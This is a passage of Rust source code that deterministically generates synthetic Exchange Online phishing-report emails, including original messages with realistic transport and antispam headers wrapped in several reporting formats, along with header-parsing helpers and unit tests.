        .map(|h| ("Received".to_string(), mime::fold(&h)))
        .collect();
    // Authentication-Results sits between the hops that entered Exchange Online.
    let auth_at = envelope
        .len()
        .saturating_sub(if envelope.len() == 5 { 2 } else { 1 });
    envelope.insert(auth_at, ("Authentication-Results".into(), auth));
    envelope.insert(auth_at + 1, ("Received-SPF".into(), mime::fold(&format!("Pass (protection.outlook.com: domain of {envelope_domain} designates {ip} as permitted sender) receiver=protection.outlook.com; client-ip={ip}; helo={helo}; pr=C"))));
    let mut fields = vec![
        ("From", from_header),
        ("To", format!("\"{}\" <{}>", recipient.0, recipient.1)),
        ("Subject", subject_header),
        (
            "Thread-Topic",
            mime::fold(&l.subject.chars().filter(char::is_ascii).collect::<String>()),
        ),
        ("Date", time::rfc5322(sent)),
        ("Message-ID", message_id.clone()),
        (
            "Return-Path",
            format!("bounce-{}@{envelope_domain}", hex(rng, 8)),
        ),
    ];
    if let Some(r) = &l.reply_to {
        fields.push(("Reply-To", format!("<{r}>")));
    }
    fields.push(("MIME-Version", "1.0".into()));
    for (k, v) in fields {
        envelope.push((k.to_string(), v));
    }
    let spam_info = mime::b64_lines(
        &(0..rng.usize(300..600))
            .map(|_| rng.u8(..))
            .collect::<Vec<u8>>(),
    );
    let spam_info = String::from_utf8_lossy(&spam_info)
        .trim_end()
        .replace("\r\n", "\r\n ");
    let arrival = time::iso_plain(at - 2 * TICKS_PER_SEC);
    let trailer: Vec<(String, String)> = vec![
        ("X-MS-Exchange-Organization-ExpirationStartTime", t(2)),
        ("X-MS-Exchange-Organization-Network-Message-Id", nmid.clone()),
        ("X-EOPAttributedMessage", "0".into()),
        ("X-EOPTenantAttributedMessage", format!("{tenant}:0")),
        ("X-MS-Exchange-Organization-MessageDirectionality", "Incoming".into()),
        ("X-MS-PublicTrafficType", "Email".into()),
        ("X-MS-Exchange-Organization-AuthSource", eop.clone()),
        ("X-MS-Exchange-Organization-AuthAs", "Anonymous".into()),
        ("X-MS-Office365-Filtering-Correlation-Id", nmid.clone()),
        ("X-MS-Exchange-Organization-SCL", scl.to_string()),
        ("X-Microsoft-Antispam", format!("BCL:{};ARA:13230040|{}|{}|8096899003;", rng.u8(0..8), rng.u32(1_000_000..9_999_999), rng.u32(1_000_000..9_999_999))),
        ("X-Forefront-Antispam-Report", mime::fold(&format!("CIP:{ip};CTRY:{ctry};LANG:{};SCL:{scl};SRV:;IPV:NLI;SFV:{sfv};H:{helo};PTR:{helo};CAT:{};SFS:(13230040)(4636009)(8096899003);DIR:INB;", match l.charset {
            "windows-1252" => "fr",
            "iso-8859-2" => "pl",
            "shift_jis" => "ja",
            "gb2312" => "zh-cn",
            _ => "en",
        }, l.category))),
        ("X-MS-Exchange-CrossTenant-OriginalArrivalTime", format!("{} (UTC)", arrival.replace('T', " "))),
        ("X-MS-Exchange-CrossTenant-Network-Message-Id", nmid.clone()),
        ("X-MS-Exchange-CrossTenant-Id", tenant.to_string()),
        ("X-MS-Exchange-CrossTenant-AuthSource", eop.clone()),
        ("X-MS-Exchange-CrossTenant-AuthAs", "Anonymous".into()),
        ("X-MS-Exchange-CrossTenant-FromEntityHeader", "Internet".into()),
        ("X-MS-Exchange-Transport-CrossTenantHeadersStamped", mbx.split('.').next().unwrap_or("").to_string()),
        ("X-MS-Exchange-Transport-EndToEndLatency", format!("00:00:0{}.{:07}", rng.u8(1..9), rng.u32(0..9_999_999))),
        ("X-MS-Exchange-Processed-By-BccFoldering", build.into()),
        ("X-Microsoft-Antispam-Message-Info", spam_info),
    ]
    .into_iter()
    .map(|(k, v)| (k.to_string(), v))
    .collect();
    let mut top = body.prepend(envelope);
    top.headers.extend(trailer);
    let mime_bytes = top.to_bytes();
    let header_end = mime_bytes
        .windows(4)
        .position(|w| w == b"\r\n\r\n")
        .unwrap_or(mime_bytes.len());
    let header_block = String::from_utf8_lossy(&mime_bytes[..header_end]).into_owned() + "\r\n";
    let facts = OriginalFacts {
        message_id: Some(message_id.clone()),
        network_message_id: Some(nmid),
        from: l.from_addr.clone(),
        subject: l.subject.clone(),
        dmarc_fails: Some(l.dmarc_fail),
        urls,
        attachments: attachments
            .iter()
            .map(|(name, _, bytes)| AttachmentFacts {
                name: name.clone(),
                sha256: sha256_hex(bytes),
            })
            .collect(),
        originating_ip: Some(ip),
        charset: l.charset.to_string(),
    };
    let from_name = std::mem::take(&mut l.from_name);
    Original {
        mime: mime_bytes,
        header_block,
        subject: l.subject,
        from_name,
        from_addr: l.from_addr,
        to_name: recipient.0.to_string(),
        to_addr: recipient.1.to_string(),
        message_id,
        date: sent,
        html,
        text,
        attachments,
        facts,
    }
}

pub(crate) fn sha256_hex(bytes: &[u8]) -> String {
    Sha256::digest(bytes)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

/// The name Outlook gives an attached message's file: its subject, minus unsafe characters.
fn file_stem(subject: &str) -> String {
    let s: String = subject
        .chars()
        .map(|c| {
            if matches!(c, '/' | '\\' | ':' | '*' | '?' | '"' | '<' | '>' | '|') {
                '_'
            } else {
                c
            }
        })
        .take(60)
        .collect();
    if s.trim().is_empty() {
        "Reported message".into()
    } else {
        s.trim().to_string()
    }
}

fn msg_file(o: &Original) -> Vec<u8> {
    mime::outlook_msg(&mime::MsgContent {
        subject: &o.subject,
        sender_name: &o.from_name,
        sender_email: &o.from_addr,
        to_name: &o.to_name,
        to_email: &o.to_addr,
        internet_message_id: &o.message_id,
        transport_headers: &o.header_block,
        text_body: &o.text,
        html_body: o.html.as_bytes(),
        attachments: &o.attachments,
    })
    .unwrap_or_default()
}

/// Builds report number `seed` of a mailbox.
pub(crate) fn generate(seed: u64, g: &GenInput) -> Built {
    let mut rng = Rng::with_seed(seed);
    let domain = g
        .mailbox
        .split('@')
        .nth(1)
        .unwrap_or("contoso.com")
        .to_string();
    let (rname, rlocal) = *pick(&mut rng, REPORTERS);
    let reporter = (rname.to_string(), format!("{rlocal}@{domain}"));
    let verdict_drawn = match rng.u8(0..100) {
        0..70 => "phishing",
        70..90 => "junk",
        _ => "not_junk",
    };
    let verdict_drawn = if matches!(g.format, WrapperFormat::ThirdParty) {
        "phishing"
    } else {
        verdict_drawn
    };
    let recv_orig = g.received - rng.i64(60 * TICKS_PER_SEC..3 * 86_400 * TICKS_PER_SEC);
    let o = original(
        &mut rng,
        &g.tenant_id,
        (&reporter.0, &reporter.1),
        verdict_drawn,
        recv_orig,
    );
    let second = matches!(g.format, WrapperFormat::MultipleAttached).then(|| {
        original(
            &mut rng,
            &g.tenant_id,
            (&reporter.0, &reporter.1),
            "phishing",
            recv_orig - 3600 * TICKS_PER_SEC,
        )
    });
    let nmid = o.facts.network_message_id.clone().unwrap_or_default();
    let ip = o.facts.originating_ip.clone().unwrap_or_default();
    let code = match verdict_drawn {
        "junk" => ("1", "Junk:"),
        "not_junk" => ("2", "Not junk:"),
        _ => ("3", "Phishing:"),
    };
    let (subject, verdict) = match g.format {
        WrapperFormat::ThirdParty => {
            if rng.bool() {
                (format!("[Phish Alert] {}", o.subject), "phishing")
            } else {
                (format!("Phishing: {}", o.subject), "phishing")
            }
        }
        WrapperFormat::MultipleAttached => (format!("Phishing: {} (+1)", o.subject), "unknown"),
        WrapperFormat::Inline => match rng.u8(0..3) {
            0 => (format!("FW: {}", o.subject), "phishing"),
            1 => (format!("{} FW: {}", code.1, o.subject), verdict_drawn),
            _ => (format!("{}|FW: {}", code.0, o.subject), verdict_drawn),
        },
        _ => match rng.u8(0..100) {
            0..30 => (format!("{}|{}", code.0, o.subject), verdict_drawn),
            30..65 => (format!("{} {}", code.1, o.subject), verdict_drawn),
            65..85 => (
                format!("{}|{nmid}|{ip}|{}|({})", code.0, o.from_addr, o.subject),
                verdict_drawn,
            ),
            _ => (o.subject.clone(), "phishing"),
        },
    };
    let on_behalf = rng.u8(0..3) == 0;
    let sender = if on_behalf {
        (
            "Microsoft Outlook".to_string(),
            format!("MicrosoftExchange329e71ec88ae4615bbc36ab6ce41109e@{domain}"),
        )
    } else {
        reporter.clone()
    };
    let mbx_name = "Reported messages".to_string();
    let to = (mbx_name, g.mailbox.clone());
    let report_mid = format!(
        "<{}@{}>",
        hex(&mut rng, 32).to_ascii_uppercase(),
        exo_host(&mut rng, "MB")
    );
    let sent = g.received - rng.i64(TICKS_PER_SEC..20 * TICKS_PER_SEC);
    let label = match verdict {
        "junk" => "junk",
        "not_junk" => "not junk",
        _ => "phishing",
    };
    let mut attachments: Vec<AttData> = Vec::new();
    let mut parts: Vec<Part> = Vec::new();
    let mut body_html = format!(
        "<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\"></head><body><p>This message was reported as {label} by {} &lt;{}&gt;.</p></body></html>",
        html_escape(&reporter.0),
        reporter.1
    );
    let attach_item =
        |o: &Original, parts: &mut Vec<Part>, atts: &mut Vec<AttData>, rng: &mut Rng| {
            parts.push(
                Part::leaf("message/rfc822", None, o.mime.clone())
                    .with("Content-Disposition", "attachment"),
            );
            atts.push(AttData {
                name: o.subject.clone(),
                kind: AttKind::Item {
                    content_type: rng.bool().then(|| "message/rfc822".to_string()),
                    mime: o.mime.clone(),
                },
            });
        };
    let attach_file =
        |name: String, ct: &str, bytes: Vec<u8>, parts: &mut Vec<Part>, atts: &mut Vec<AttData>| {
            parts.push(
                Part::leaf(
                    &format!("{ct}; name=\"{name}\""),
                    Some("base64"),
                    mime::b64_lines(&bytes),
                )
                .with(
                    "Content-Disposition",
                    &format!("attachment; filename=\"{name}\"; size={}", bytes.len()),
                ),
            );
            atts.push(AttData {
                name,
                kind: AttKind::File {
                    content_type: ct.to_string(),
                    bytes,
                },
            });
        };
    let stem = file_stem(&o.subject);
    match g.format {
        WrapperFormat::ItemAttachment | WrapperFormat::Custom => {
            attach_item(&o, &mut parts, &mut attachments, &mut rng)
        }
        WrapperFormat::EmlAttachment => attach_file(
            format!("{stem}.eml"),
            "message/rfc822",
            o.mime.clone(),
            &mut parts,
            &mut attachments,
        ),
        WrapperFormat::MsgAttachment => attach_file(
            format!("{stem}.msg"),
            "application/vnd.ms-outlook",
            msg_file(&o),
            &mut parts,
            &mut attachments,
        ),
        WrapperFormat::MultipleAttached => {
            attach_item(&o, &mut parts, &mut attachments, &mut rng);
            if let Some(s) = &second {
                attach_file(
                    format!("{}.eml", file_stem(&s.subject)),
                    "message/rfc822",
                    s.mime.clone(),
                    &mut parts,
                    &mut attachments,
                );
            }
        }
        WrapperFormat::ThirdParty => {
            attach_file(
                format!("{stem}.eml"),
                "message/rfc822",
                o.mime.clone(),
                &mut parts,
                &mut attachments,
            );
            let (name, note) = if subject.starts_with("[Phish Alert]") {
                ("PhishAlertReport.txt", format!("Reported via KnowBe4 Phish Alert Button v1.10.{}\r\nReporter: {}\r\nComment: Looks suspicious, please check.\r\n", rng.u8(1..20), reporter.1))
            } else {
                ("Reporter Comments.txt", format!("Cofense Reporter 4.{}\r\nReported by: {}\r\nUser comment: I did not click the link.\r\n", rng.u8(1..9), reporter.1))
            };
            attach_file(
                name.to_string(),
                "text/plain",
                note.into_bytes(),
                &mut parts,
                &mut attachments,
            );
        }
        WrapperFormat::Inline => {
            body_html = format!(
                "<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\"></head><body><div><p>Looks like phishing?</p></div><hr><div id=\"divRplyFwdMsg\"><b>From:</b> {} &lt;{}&gt;<br><b>Sent:</b> {}<br><b>To:</b> {} &lt;{}&gt;<br><b>Subject:</b> {}</div><div>{}</div></body></html>",
                html_escape(&o.from_name),
                o.from_addr,
                time::rfc5322(o.date),
                html_escape(&o.to_name),
                o.to_addr,
                html_escape(&o.subject),
                o.html
                    .split_once("<body>")
                    .map_or(o.html.as_str(), |(_, b)| b)
                    .trim_end_matches("</body></html>")
            );
        }
    }
    // Now and then a cloud file link the user added (not in the MIME: Exchange keeps it as a
    // reference attachment).
    if !matches!(g.format, WrapperFormat::Inline) && rng.u8(0..30) == 0 {
        attachments.push(AttData {
            name: "Screenshot 2024-05-02.png".into(),
            kind: AttKind::Reference {
                source_url: format!(
                    "https://{}-my.sharepoint.com/personal/{}/Documents/Screenshot.png",
                    domain.split('.').next().unwrap_or("contoso"),
                    rlocal
                ),
            },
        });
    }
    let html_part = Part::leaf(
        "text/html; charset=\"utf-8\"",
        Some("quoted-printable"),
        mime::qp(body_html.as_bytes()),
    );
    let body = if parts.is_empty() {
        Part::multi(
            "alternative",
            &format!("_000_{}_", hex(&mut rng, 24)),
            vec![
                Part::leaf(
                    "text/plain; charset=\"utf-8\"",
                    Some("quoted-printable"),
                    mime::qp(
                        format!(
                            "Looks like phishing?\n\nFrom: {} <{}>\nSubject: {}\n\n{}",
                            o.from_name, o.from_addr, o.subject, o.text
                        )
                        .as_bytes(),
                    ),
                ),
                html_part,
            ],
        )
    } else {
        let mut all = vec![html_part];
        all.append(&mut parts);
        Part::multi("mixed", &format!("_004_{}_", hex(&mut rng, 24)), all)
    };
    let report_nmid = guid(&mut rng);
    let subject_header = if subject.is_ascii() {
        mime::fold(&subject)
    } else {
        mime::encoded_words("utf-8", &subject, true)
    };
    let mut envelope = vec![
        ("Received".to_string(), mime::fold(&format!("from {} ({}) by {} with HTTPS; {}", exo_host(&mut rng, "MB"), ipv6(&mut rng), exo_host(&mut rng, "MB"), time::rfc5322(g.received)))),
        ("Received".to_string(), mime::fold(&format!("from {} ({}) by {} ({}) with Microsoft SMTP Server (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.7633.22; {}", exo_host(&mut rng, "MB"), ipv6(&mut rng), exo_host(&mut rng, "MB"), ipv6(&mut rng), time::rfc5322(sent)))),
        ("From".to_string(), format!("\"{}\" <{}>", reporter.0, reporter.1)),
    ];
    if on_behalf {
        envelope.push((
            "Sender".to_string(),
            format!("\"{}\" <{}>", sender.0, sender.1),
        ));
    }
    envelope.extend([
        ("To".to_string(), format!("\"{}\" <{}>", to.0, to.1)),
        ("Subject".to_string(), subject_header),
        ("Date".to_string(), time::rfc5322(sent)),
        ("Message-ID".to_string(), report_mid.clone()),
        ("MIME-Version".to_string(), "1.0".to_string()),
    ]);
    let mut top = body.prepend(envelope);
    top.headers.extend([
        (
            "X-MS-Has-Attach".to_string(),
            if attachments.is_empty() {
                String::new()
            } else {
                "yes".into()
            },
        ),
        (
            "X-MS-Exchange-Organization-Network-Message-Id".to_string(),
            report_nmid.clone(),
        ),
        (
            "X-MS-Exchange-Organization-AuthAs".to_string(),
            "Internal".into(),
        ),
        (
            "X-MS-Exchange-Organization-AuthMechanism".to_string(),
            "04".into(),
        ),
        (
            "X-MS-Exchange-CrossTenant-Id".to_string(),
            g.tenant_id.clone(),
        ),
        (
            "X-MS-Exchange-CrossTenant-Network-Message-Id".to_string(),
            report_nmid,
        ),
        ("X-MS-Exchange-Organization-SCL".to_string(), "-1".into()),
    ]);
    let mime_bytes = top.to_bytes();
    let mut originals = vec![o.facts.clone()];
    if matches!(g.format, WrapperFormat::Inline) {
        let f = &mut originals[0];
        f.message_id = None;
        f.network_message_id = None;
        f.dmarc_fails = None;
        f.originating_ip = None;
        f.attachments.clear();
        f.charset = "utf-8".into();
    }
    if let Some(s) = second {
        originals.push(s.facts);
    }
    Built {
        mime: mime_bytes,
        summary: Summary {
            subject,
            from: reporter.clone(),
            sender,
            to,
            internet_message_id: report_mid,
            body_html,
            sent,
            has_attachments: !attachments.is_empty(),
        },
        attachments,
        verdict,
        originals,
    }
}

/// The verdict Microsoft reads from a wrapper subject.
pub(crate) fn verdict_of(subject: &str) -> &'static str {
    let s = subject.trim_start();
    let lower = s.to_ascii_lowercase();
    if s.starts_with("1|") || lower.starts_with("junk:") {
        "junk"
    } else if s.starts_with("2|") || lower.starts_with("not junk:") {
        "not_junk"
    } else {
        "phishing"
    }
}

/// The unfolded value of the first header field `name` in a message's header block.
pub(crate) fn header_value(mime_bytes: &[u8], name: &str) -> Option<String> {
    let end = mime_bytes
        .windows(4)
        .position(|w| w == b"\r\n\r\n")
        .unwrap_or(mime_bytes.len());
    let text = String::from_utf8_lossy(&mime_bytes[..end]);
    let unfolded = text.replace("\r\n ", " ").replace("\r\n\t", " ");
    unfolded.split("\r\n").find_map(|line| {
        let (k, v) = line.split_once(':')?;
        k.trim()
            .eq_ignore_ascii_case(name)
            .then(|| v.trim().to_string())
    })
}

fn address_of(v: &str) -> String {
    match (v.rfind('<'), v.rfind('>')) {
        (Some(a), Some(b)) if a < b => v[a + 1..b].to_string(),
        _ => v.trim().to_string(),
    }
}

/// A report a test built: the wrapper around its bytes, and what can be read back.
pub(crate) fn build_custom(r: &Report, tenant: &str, mailbox: &str) -> Built {
    let mut rng = Rng::with_seed(r.subject.len() as u64 ^ time::ticks(r.received) as u64);
    let report_mid = format!(
        "<{}@{}>",
        hex(&mut rng, 32).to_ascii_uppercase(),
        exo_host(&mut rng, "MB")
    );
    let received = time::ticks(r.received);
    let mut parts = vec![Part::leaf(
        "text/html; charset=\"utf-8\"",
        Some("quoted-printable"),
        mime::qp(r.body_html.as_bytes()),
    )];
    let mut attachments = Vec::new();
    let mut originals = Vec::new();
    for a in &r.attachments {
        match a {
            ReportAttachment::Item {
                name,
                mime: m,
                content_type,
            } => {
                parts.push(
                    Part::leaf("message/rfc822", None, m.clone())
                        .with("Content-Disposition", "attachment"),
                );
                attachments.push(AttData {
                    name: name.clone(),
                    kind: AttKind::Item {
                        content_type: content_type.clone(),
                        mime: m.clone(),
                    },
                });
                originals.push(facts_from_mime(m));
            }
            ReportAttachment::File {
                name,
                content_type,
                bytes,
            } => {
                parts.push(
                    Part::leaf(
                        &format!("{content_type}; name=\"{name}\""),
                        Some("base64"),
                        mime::b64_lines(bytes),
                    )
                    .with(
                        "Content-Disposition",
                        &format!("attachment; filename=\"{name}\""),
                    ),
                );
                attachments.push(AttData {
                    name: name.clone(),
                    kind: AttKind::File {
                        content_type: content_type.clone(),
                        bytes: bytes.clone(),
                    },
                });
                if content_type.eq_ignore_ascii_case("message/rfc822")
                    || name.to_ascii_lowercase().ends_with(".eml")
                {
                    originals.push(facts_from_mime(bytes));
                }
            }
            ReportAttachment::Reference { name, source_url } => {
                attachments.push(AttData {
                    name: name.clone(),
                    kind: AttKind::Reference {
                        source_url: source_url.clone(),
                    },
                });
            }
        }
    }
    let body = Part::multi("mixed", &format!("_004_{}_", hex(&mut rng, 24)), parts);
    let mut top = body.prepend(vec![
        ("From".into(), format!("<{}>", r.reporter)),
        ("To".into(), format!("<{mailbox}>")),
        (
            "Subject".into(),
            if r.subject.is_ascii() {
                r.subject.clone()
            } else {
                mime::encoded_words("utf-8", &r.subject, true)
            },
        ),
        ("Date".into(), time::rfc5322(received)),
        ("Message-ID".into(), report_mid.clone()),
        ("MIME-Version".into(), "1.0".into()),
    ]);
    top.headers
        .push(("X-MS-Exchange-CrossTenant-Id".into(), tenant.to_string()));
    let verdict = if originals.len() > 1 {
        "unknown"
    } else {
        verdict_of(&r.subject)
    };
    Built {
        mime: top.to_bytes(),
        summary: Summary {
            subject: r.subject.clone(),
            from: (String::new(), r.reporter.clone()),
            sender: (String::new(), r.reporter.clone()),
            to: ("Reported messages".into(), mailbox.to_string()),
            internet_message_id: report_mid,
            body_html: r.body_html.clone(),
            sent: received - TICKS_PER_SEC,
            has_attachments: !attachments.is_empty(),
        },
        attachments,
        verdict,
        originals,
    }
}

/// What simple header reading finds in a test's own original (no decoding beyond unfolding).
fn facts_from_mime(m: &[u8]) -> OriginalFacts {
    let h = |n: &str| header_value(m, n);
    let dmarc = h("Authentication-Results").map(|a| a.contains("dmarc=fail"));
    let cip = h("X-Forefront-Antispam-Report").and_then(|v| {
        v.split(';')
            .find_map(|kv| kv.trim().strip_prefix("CIP:").map(str::to_owned))
    });
    OriginalFacts {
        message_id: h("Message-ID"),
        network_message_id: h("X-MS-Exchange-Organization-Network-Message-Id"),
        from: h("From").map(|f| address_of(&f)).unwrap_or_default(),
        subject: h("Subject").unwrap_or_default(),
        dmarc_fails: dmarc,
        urls: Vec::new(),
        attachments: Vec::new(),
        originating_ip: cip,
        charset: "unknown".into(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn input(format: WrapperFormat) -> GenInput {
        GenInput {
            tenant_id: "6f1c1a4e-1111-4000-8000-00000000000a".into(),
            mailbox: "phish@contoso.com".into(),
            received: time::parse("2024-06-03T10:12:14Z").unwrap_or_default(),
            format,
        }
    }

    #[test]
    fn generation_is_deterministic() {
        let a = generate(42, &input(WrapperFormat::MsgAttachment));
        let b = generate(42, &input(WrapperFormat::MsgAttachment));
        assert!(a.mime == b.mime, "the same seed gives the same MIME");
        assert_eq!(a.summary.subject, b.summary.subject);
        let (AttKind::File { bytes: x, .. }, AttKind::File { bytes: y, .. }) =
            (&a.attachments[0].kind, &b.attachments[0].kind)
        else {
            panic!("msg is a file attachment")
        };
        assert!(x == y, "the same .msg bytes");
    }

    #[test]
    fn originals_carry_the_headers_microsoft_requires() {
        for seed in 0..200 {
            let b = generate(seed, &input(WrapperFormat::ItemAttachment));
            let AttKind::Item { mime: m, .. } = &b.attachments[0].kind else {
                panic!("item")
            };
            let f = &b.originals[0];
            assert_eq!(
                header_value(m, "Message-ID").as_ref(),
                f.message_id.as_ref()
            );
            assert_eq!(
                header_value(m, "X-MS-Exchange-Organization-Network-Message-Id").as_ref(),
                f.network_message_id.as_ref()
            );
            assert_eq!(
                header_value(m, "X-MS-Exchange-CrossTenant-Id").as_deref(),
                Some("6f1c1a4e-1111-4000-8000-00000000000a")
            );
            assert!(header_value(m, "X-Microsoft-Antispam-Message-Info").is_some());
            let auth = header_value(m, "Authentication-Results").unwrap_or_default();
            assert_eq!(
                auth.contains("dmarc=fail"),
                f.dmarc_fails == Some(true),
                "{auth}"
            );
            let cip = header_value(m, "X-Forefront-Antispam-Report").unwrap_or_default();
            assert!(cip.starts_with(&format!(
                "CIP:{};",
                f.originating_ip.clone().unwrap_or_default()
            )));
            let text = String::from_utf8_lossy(m).replace("=\r\n", "");
            if !matches!(f.charset.as_str(), "shift_jis" | "gb2312") {
                for u in &f.urls {
                    // Link targets appear only percent-encoded inside Safe Links URLs.
                    assert!(text.contains(&pct(u)), "{u}");
                }
            }
            let received = text.matches("\r\nReceived: ").count()
                + usize::from(text.starts_with("Received: "));
            assert!((4..=5).contains(&received), "{received}");
            assert!(
                m.windows(2).all(|w| w[1] != b'\n' || w[0] == b'\r'),
                "bare LF"
            );
            assert!(b.verdict != "unknown");
        }
    }

    #[test]
    fn every_charset_and_format_appears() {
        let mut charsets = std::collections::BTreeSet::new();
        for seed in 0..300 {
            let b = generate(seed, &input(WrapperFormat::EmlAttachment));
            charsets.insert(b.originals[0].charset.clone());
        }
        assert_eq!(charsets.len(), 5, "{charsets:?}");
        let multi = generate(1, &input(WrapperFormat::MultipleAttached));
        assert_eq!(multi.originals.len(), 2);
        assert_eq!(multi.verdict, "unknown");
        let third = generate(1, &input(WrapperFormat::ThirdParty));
        assert!(third.attachments.iter().any(|a| a.name.ends_with(".txt")));
        let inline = generate(1, &input(WrapperFormat::Inline));
        assert!(inline.attachments.is_empty());
        assert!(inline.summary.body_html.contains("divRplyFwdMsg"));
    }
}
